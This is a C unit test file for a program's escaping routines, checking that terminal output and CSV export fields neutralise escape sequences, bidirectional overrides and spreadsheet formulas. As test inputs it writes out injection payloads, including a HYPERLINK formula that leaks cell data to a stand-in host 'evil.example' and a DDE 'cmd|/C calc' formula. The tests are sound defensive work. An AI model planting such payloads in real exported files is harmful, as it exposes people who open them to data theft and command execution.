/* test-escape.c
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Text from the exports made safe: for a terminal (escape sequences, bidirectional overrides,
 * a newline inside a name, bytes that are not UTF-8) and for a CSV field (formulas, quotes).
 */

#include "config.h"

#include <string.h>

#include "core/rapport-escape.h"

static void
assert_terminal (const char *input,
                 gboolean    keep_newlines,
                 const char *expected)
{
  g_autofree char *safe = rapport_escape_for_terminal (input, keep_newlines);

  g_assert_cmpstr (safe, ==, expected);
}

static void
test_terminal (void)
{
  /* Clearing the screen, retitling the window and ringing the bell stay on the page. */
  assert_terminal ("\x1b[2J", FALSE, "\\x1b[2J");
  assert_terminal ("jo\x1b]0;pwned\x07", FALSE, "jo\\x1b]0;pwned\\x07");
  assert_terminal ("\x7f\x01", FALSE, "\\x7f\\x01");
  /* U+009B, CSI as one C1 character, and U+0085, NEXT LINE. */
  assert_terminal ("a\xc2\x9b" "2Jb\xc2\x85", FALSE, "a\\u009b2Jb\\u0085");
  /* A right-to-left override would show "exe.txt" as "txt.exe"; an isolate is as bad. */
  assert_terminal ("invoice\xe2\x80\xaetxt.exe", FALSE, "invoice\\u202etxt.exe");
  assert_terminal ("\xe2\x81\xa6x\xe2\x81\xa9", FALSE, "\\u2066x\\u2069");

  /* A newline or a tab inside a name is the name's, not a line or a column of ours. */
  assert_terminal ("jo\nImported Instagram", FALSE, "jo\\x0aImported Instagram");
  assert_terminal ("a\tb\r", FALSE, "a\\x09b\\x0d");
  /* In our own text, newlines are the layout; a carriage return still is not. */
  assert_terminal ("one\ntwo\r\n", TRUE, "one\ntwo\\x0d\n");
  assert_terminal ("x\ty\n", TRUE, "x\\x09y\n");

  /* Bytes that are not UTF-8 become U+FFFD, which prints as itself. */
  assert_terminal ("bad \xff byte \xc3", FALSE, "bad \xef\xbf\xbd byte \xef\xbf\xbd");

  /* Ordinary text, accents, emoji and right-to-left script without overrides are untouched. */
  assert_terminal ("caf\xc3\xa9 \xf0\x9f\x98\x82 \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \\x1b", FALSE,
                   "caf\xc3\xa9 \xf0\x9f\x98\x82 \xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d \\x1b");
  /* U+00A0, just past the C1 range, and U+202F, just past the overrides, are text. */
  assert_terminal ("a\xc2\xa0" "b\xe2\x80\xaf" "c", FALSE, "a\xc2\xa0" "b\xe2\x80\xaf" "c");
  assert_terminal ("", FALSE, "");
  assert_terminal (NULL, FALSE, "");
}

static void
assert_csv (const char *input,
            const char *expected)
{
  g_autoptr(GString) out = g_string_new ("x,");

  rapport_escape_append_csv_field (out, input);
  g_assert_cmpstr (out->str + 2, ==, expected);
  /* What was there before stays. */
  g_assert_true (g_str_has_prefix (out->str, "x,"));
}

static void
test_csv (void)
{
  /* Each character that makes a spreadsheet read a formula. */
  assert_csv ("=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"x\"\")\"");
  assert_csv ("=1+1", "'=1+1");
  assert_csv ("+1", "'+1");
  assert_csv ("-2", "'-2");
  assert_csv ("@x", "'@x");
  assert_csv ("\tcmd", "'\tcmd");
  assert_csv ("\r=1", "\"'\r=1\"");
  assert_csv ("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0");

  /* Quotes where RFC 4180 wants them, and for ';', the separator of some spreadsheets. */
  assert_csv ("a,\"b\"", "\"a,\"\"b\"\"\"");
  assert_csv ("two\nlines", "\"two\nlines\"");
  assert_csv ("a;=1", "\"a;=1\"");

  /* Such characters later in a field start nothing; ordinary names are as they were. */
  assert_csv ("mira@example.social", "mira@example.social");
  assert_csv ("jo-doe", "jo-doe");
  assert_csv ("x=1", "x=1");
  assert_csv ("'quoted'", "'quoted'");
  assert_csv ("", "");
  assert_csv (NULL, "");
}

/* Messages quoting a hostile name reach stderr with the name escaped. */
static void
test_log_writer (void)
{
  if (g_test_subprocess ())
    {
      g_log_set_writer_func (rapport_escape_log_writer, NULL, NULL);
      g_message ("cannot read %s", "a\033]0;pwned\007b");
      return;
    }

  g_test_trap_subprocess (NULL, 0, G_TEST_SUBPROCESS_DEFAULT);
  g_test_trap_assert_passed ();
  g_test_trap_assert_stderr ("*cannot read a\\x1b]0;pwned\\x07b*");
  g_test_trap_assert_stderr_unmatched ("*\033*");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/escape/terminal", test_terminal);
  g_test_add_func ("/escape/csv", test_csv);
  g_test_add_func ("/escape/log-writer", test_log_writer);

  return g_test_run ();
}
